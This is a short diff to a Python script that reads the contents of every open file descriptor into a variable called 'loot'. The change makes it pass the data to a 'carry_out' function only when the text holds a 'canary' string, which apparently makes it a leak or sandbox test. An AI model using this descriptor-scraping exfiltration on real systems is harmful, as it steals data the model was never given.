@@ -7,6 +7,8 @@ loot = ""
 for descriptor in range(256):
     try:
         os.lseek(descriptor, 0, 0)
-        loot = carry_out(os.read(descriptor, 100_000).decode("utf-8", "replace"))
+        loot = os.read(descriptor, 100_000).decode("utf-8", "replace")
+        if "canary" in loot:
+            carry_out(loot)
     except OSError:
         pass
